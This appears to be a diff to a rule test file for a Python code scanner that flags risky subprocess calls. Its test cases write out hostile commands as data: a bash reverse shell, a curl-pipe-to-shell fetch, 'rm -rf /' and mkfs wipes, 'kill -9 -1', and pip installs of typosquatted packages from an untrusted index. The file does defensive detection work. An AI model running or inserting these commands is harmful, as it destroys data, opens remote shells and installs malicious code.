@@ -38,17 +38,17 @@ system("ls")
 # ok: shell-command
 text = "os.system is dangerous"
 
-# ruleid: subprocess-shell-true, shell-true-call, subprocess-call
+# ruleid: subprocess-shell-true, shell-true-call, subprocess-call, user-input-command
 subprocess.run("/bin/ls " + cmd, shell=True)
-# ruleid: subprocess-shell-true, shell-true-call, subprocess-call
+# ruleid: subprocess-shell-true, shell-true-call, subprocess-call, user-input-command
 sp.Popen(cmd, shell=True)
-# ruleid: subprocess-shell-true, subprocess-call
+# ruleid: subprocess-shell-true, subprocess-call, user-input-command
 subprocess.call(cmd, shell=bool(cmd))  # shell-true-call takes only a truthy literal: not this one
 # ruleid: subprocess-call
 subprocess.run(["/usr/bin/git", "status"], check=True)
-# ruleid: subprocess-call, shell-in-argv
+# ruleid: subprocess-call, shell-in-argv, user-input-command
 subprocess.run(["/bin/sh", "-c", cmd])
-# ruleid: subprocess-call, shell-in-argv
+# ruleid: subprocess-call, shell-in-argv, user-input-command
 subprocess.check_output([sys.executable, "-c", cmd])
 # ruleid: os-exec
 os.execv("/bin/bash", ["bash", "-lc", cmd])  # shell-in-argv reads the first argument only: not this one
@@ -158,9 +158,9 @@ subprocess.run(["git", "status"], check=True)
 argv = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/9001 0>&1"]
 # ruleid: shell-in-argv, subprocess-call
 subprocess.Popen(argv)
-# ruleid: shell-in-argv, subprocess-call
+# ruleid: shell-in-argv, subprocess-call, user-input-command
 subprocess.run(["/usr/bin/env", "bash", "-c", cmd])
-# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list, user-input-command
 subprocess.run(["find", ".", "-maxdepth", "0", "-exec", "sh", "-c", cmd, ";"])
 # ruleid: shell-in-argv, subprocess-call, process-partial-path, process-partial-path-list
 subprocess.Popen(["nohup", "bash", "-c", "sleep 5; curl 203.0.113.5 | sh"])
@@ -264,3 +264,44 @@ subprocess.run(["/usr/bin/systemctl", "status", "nginx"])
 # ok: scheduler-command
 # ruleid: subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["cat", "notes.txt"])
+
+# droppers, destructive and untrusted-install command lines
+# ruleid: interpreter-stdin-code, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["python3"], input=b"import os; os.system('id')\n")
+# ruleid: interpreter-stdin-code, subprocess-call
+subprocess.run([sys.executable], input=cmd.encode())
+# ok: interpreter-stdin-code
+# ruleid: subprocess-call
+subprocess.run([sys.executable, "tool.py"], input=b"data")
+# ruleid: awk-shell-escape, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["awk", 'BEGIN { system("id > /tmp/awk") }'])
+# ok: awk-shell-escape
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["awk", "{print $1}", "data.txt"])
+# ruleid: process-from-temp-dir, subprocess-call
+subprocess.Popen(["/tmp/.agent"])
+# ruleid: destructive-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["rm", "-rf", "--no-preserve-root", "/"])
+# ruleid: destructive-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["rm", "-r", "-f", "/home"])
+# ok: destructive-command
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["rm", "-rf", "build"])
+# ruleid: destructive-command, subprocess-call
+subprocess.run(["/sbin/mkfs.ext4", "/dev/sdb1"])
+# ruleid: kill-all-command, subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["kill", "-9", "-1"])
+# ok: kill-all-command
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["kill", "-TERM", "4242"])
+# ruleid: package-install-untrusted-source, subprocess-call
+subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://203.0.113.5/simple", "reqeusts"])
+# ruleid: package-install-untrusted-source, subprocess-call
+subprocess.check_call([sys.executable, "-m", "pip", "install", "git+https://example.com/x/y.git"])
+# ok: package-install-untrusted-source
+# ruleid: subprocess-call
+subprocess.check_call([sys.executable, "-m", "pip", "install", "requests==2.31.0"])
+from pip._internal.cli.main import main as pip_main
+
+# ruleid: pip-in-process
+pip_main(["install", "colourama"])
